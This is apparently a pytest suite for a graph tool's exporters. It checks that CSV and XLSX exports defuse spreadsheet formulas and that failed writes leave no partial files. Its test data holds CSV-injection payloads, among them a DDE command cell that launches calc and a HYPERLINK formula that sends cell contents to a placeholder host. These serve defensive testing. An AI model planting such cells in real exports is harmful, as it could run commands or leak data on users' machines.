"""Reliability of the exports (issue 13, points 5, 6 and 7): no formula runs, no fault leaves half a file.

CSV and XLSX neutralise cells a spreadsheet would run as formulas (OWASP's advice
on CSV injection) unless --raw-cells; neo4j-csv keeps values exact. A full disk,
a denied permission or a read-only file system ends in one line, with the
previous export as it was and no temporary file; a temporary file a killed export
left is swept by the next export of the same target.
"""

from __future__ import annotations

import csv
import fcntl
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from coopgraph.graph.model import Citation, Claim, Dataset, Document, Entity
from coopgraph.queries.export import EXPORT_FORMATS
from coopgraph.queries.export._write import WriteError, atomic_output, sweep
from coopgraph.queries.export.neo4j_csv import write_neo4j_csv
from coopgraph.queries.export.table import read_table, write_csv, write_xlsx
from tests.faults import COOPGRAPH, digest, on_tmpfs, one_clear_line, without_privileges

DOCS = Path(__file__).resolve().parents[1] / "docs"
# the cells, and the rest of OWASP's list
HOSTILE = ["=cmd|' /C calc'!A0", "+1", "@SUM(1)", '=HYPERLINK("http://example.com/x?"&A1,"click")', "-2+3",
           "\t=1+1", "\r=1+1", "＝1+1", "'quoted already", "'=both"]


def hostile_dataset() -> Dataset:
    data = Dataset(documents={"doc": Document("doc", HOSTILE[3], "2020", author=HOSTILE[2])})
    for i, text in enumerate(HOSTILE):
        data.entities[f"firm:f{i}"] = Entity(f"firm:f{i}", "firm", text, description=text)
    for i in range(len(HOSTILE) - 1):
        claim = Claim(f"firm:f{i}", "cooperates_with", f"firm:f{i + 1}", notes=HOSTILE[i],
                      citations=(Citation("doc", HOSTILE[i + 1], HOSTILE[i]),))
        data.claims[claim.id] = claim
    return data


# -- 5. formula-leading cells ---------------------------------------------------------------------------------

def test_csv_export_neutralises_every_formula_leading_cell_and_reads_back_exact(tmp_path):
    data = hostile_dataset()
    target = tmp_path / "claims.csv"
    write_csv(data, target)
    with open(target, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    for text in HOSTILE:
        assert text not in cells or text.startswith("'"), text          # never as written ...
        assert "'" + text in cells, text                                # ... but behind a quote
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r", "＝")]
    back = read_table(target)
    assert back.claims == data.claims                                   # the quote comes off again


def test_xlsx_export_marks_formula_leading_cells_as_text_and_keeps_their_value(tmp_path):
    from openpyxl import load_workbook

    data = hostile_dataset()
    target = tmp_path / "g.xlsx"
    write_xlsx(data, target)
    sheet = load_workbook(target)["entities"]
    by_value = {row[2].value: row[2] for row in sheet.iter_rows(min_row=2)}
    for text in HOSTILE:
        cell = by_value[text]                                           # the exact text ...
        assert cell.data_type == "s"
        assert cell.quotePrefix == (text[:1] in "=+-@\t\r＝"), text     # ... marked as text where it matters
    assert read_table(target) == data


def test_raw_cells_writes_them_as_they_are(tmp_path, run, mini_store_path):
    data = hostile_dataset()
    write_csv(data, tmp_path / "raw.csv", raw=True)
    with open(tmp_path / "raw.csv", newline="", encoding="utf-8") as fh:
        cells = {cell for row in csv.reader(fh) for cell in row}
    assert set(HOSTILE[:8]) <= cells
    from openpyxl import load_workbook

    write_xlsx(data, tmp_path / "raw.xlsx", raw=True)
    assert not any(c.quotePrefix for row in load_workbook(tmp_path / "raw.xlsx")["entities"].iter_rows() for c in row)
    assert run("export", "csv", tmp_path / "a.csv", "--raw-cells", "--store", mini_store_path).exit_code == 0
    refused = run("export", "json", tmp_path / "a.json", "--raw-cells", "--store", mini_store_path)
    assert refused.exit_code == 2 and "--raw-cells is for csv and xlsx" in refused.output


def test_neo4j_csv_keeps_values_exact_and_the_docs_say_why(tmp_path):
    data = hostile_dataset()
    write_neo4j_csv(data, tmp_path / "neo4j")
    with open(tmp_path / "neo4j" / "entities.csv", newline="", encoding="utf-8") as fh:
        names = {row[2] for row in csv.reader(fh)}
    assert set(HOSTILE) <= names
    text = (DOCS / "exports.md").read_text(encoding="utf-8")
    assert "--raw-cells" in text and "OWASP" in text and "neo4j-admin" in text and "exact" in text


# -- 6. a full disk, a read-only file system, a denied permission ---------------------------------------------

FORMATS = {"json": "out.json", "graphml": "out.graphml", "gexf": "out.gexf", "cypher": "out.cypher",
           "csv": "out.csv", "xlsx": "out.xlsx", "neo4j-csv": "neo4j"}


def test_a_full_disk_fails_every_export_in_one_line_and_keeps_the_previous_file(tmp_path, bundled_store_file):
    previous = tmp_path / "previous.json"
    previous.write_text('{"an": "earlier export"}', encoding="utf-8")
    steps = [[*COOPGRAPH, "export", fmt, name, "--store", str(bundled_store_file), "-q"] for fmt, name in FORMATS.items()]
    results = on_tmpfs(tmp_path, 48, {"out.json": previous}, steps)
    for (fmt, name), result in zip(FORMATS.items(), results):
        assert result["code"] == 1, (fmt, result["err"])
        line = one_clear_line(result["err"])
        assert f"cannot write {name}: the disk is full" in line, (fmt, line)
        assert result["files"] == {"out.json": digest(previous)}, (fmt, result["files"])   # no partial target, no temp


def test_a_read_only_file_system_fails_exports_in_one_line(tmp_path, mini_store_path):
    steps = [[*COOPGRAPH, "export", fmt, FORMATS[fmt], "--store", str(mini_store_path)] for fmt in ("json", "xlsx", "neo4j-csv")]
    for result in on_tmpfs(tmp_path, 1024, {}, steps, readonly=True):
        assert result["code"] == 1 and "read-only" in one_clear_line(result["err"])
        assert result["files"] == {}


def test_permission_denied_fails_exports_in_one_line(tmp_path, mini_store_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    (folder / "out.csv").write_text("earlier\n", encoding="utf-8")
    os.chmod(folder, 0o555)
    try:
        for fmt, name in (("csv", "out.csv"), ("xlsx", "out.xlsx"), ("neo4j-csv", "neo4j")):
            result = without_privileges([*COOPGRAPH, "export", fmt, str(folder / name), "--store", str(mini_store_path)])
            assert result.returncode == 1
            assert "permission denied" in one_clear_line(result.stderr), (fmt, result.stderr)
    finally:
        os.chmod(folder, 0o755)
    assert sorted(p.name for p in folder.iterdir()) == ["out.csv"]
    assert (folder / "out.csv").read_text(encoding="utf-8") == "earlier\n"


def test_the_library_raises_a_typed_error_past_a_file_size_limit(tmp_path):
    """``ulimit -f`` for this process: a real EFBIG from the kernel, as a full disk would give ENOSPC."""
    import resource
    import signal

    data = hostile_dataset()
    for i in range(2000):
        data.entities[f"firm:x{i}"] = Entity(f"firm:x{i}", "firm", f"Firm {i} " + "x" * 50)
        claim = Claim("firm:f0", "cooperates_with", f"firm:x{i}", notes=f"note {i} " + "y" * 50,
                      citations=(Citation("doc", f"p. {i}", "q"),))
        data.claims[claim.id] = claim
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    previous = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, hard))
    try:
        for name, writer in (("g.xlsx", write_xlsx), ("c.csv", write_csv)):
            with pytest.raises(WriteError, match="the file grew past the size limit"):
                writer(data, tmp_path / name)
        with pytest.raises(WriteError, match="size limit"):
            write_neo4j_csv(data, tmp_path / "neo4j")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, previous)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


# -- 7. temporary files of a killed export --------------------------------------------------------------------

def test_a_killed_export_leaves_a_temporary_file_that_the_next_export_sweeps(tmp_path, mini_store_path):
    target = tmp_path / "out.json"
    script = tmp_path / "slow_export.py"
    script.write_text(textwrap.dedent(f"""
        import time
        from coopgraph.queries.export._write import atomic_output
        with atomic_output({str(target)!r}) as out:
            out.write("half")
            out.flush()
            print("writing", flush=True)
            time.sleep(600)
        """))
    proc = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "writing"
    [temp] = tmp_path.glob(".out.json.*.tmp")
    os.utime(temp, (time.time() - 60, time.time() - 60))
    assert sweep(target) == []                          # a live writer holds it
    proc.kill()
    proc.wait()
    assert temp.exists() and not target.exists()        # what kill -9 leaves: no target, one temporary file
    result = subprocess.run([*COOPGRAPH, "export", "json", str(target), "--store", str(mini_store_path)],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out.json")) == []


def test_a_folder_export_left_half_done_is_swept_too(tmp_path, mini_store_path):
    stale = tmp_path / ".neo4j.abc123.tmp"
    stale.mkdir()
    (stale / "entities.csv").write_text("half", encoding="utf-8")
    os.utime(stale, (time.time() - 60, time.time() - 60))
    held = tmp_path / ".neo4j.held.tmp"
    held.mkdir()
    os.utime(held, (time.time() - 60, time.time() - 60))
    fd = os.open(held, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try:
        write_neo4j_csv(Dataset(entities={"firm:a": Entity("firm:a", "firm", "A")}), tmp_path / "neo4j")
    finally:
        os.close(fd)
    assert not stale.exists() and held.exists()
    assert (tmp_path / "neo4j" / "entities.csv").exists()


def test_every_export_format_goes_through_the_atomic_writer():
    """A new format that wrote its file directly would escape all of the above."""
    import inspect

    for name, fmt in EXPORT_FORMATS.items():
        source = inspect.getsource(inspect.getmodule(fmt.writer))
        assert "atomic_output" in source or "atomic_directory" in source, name
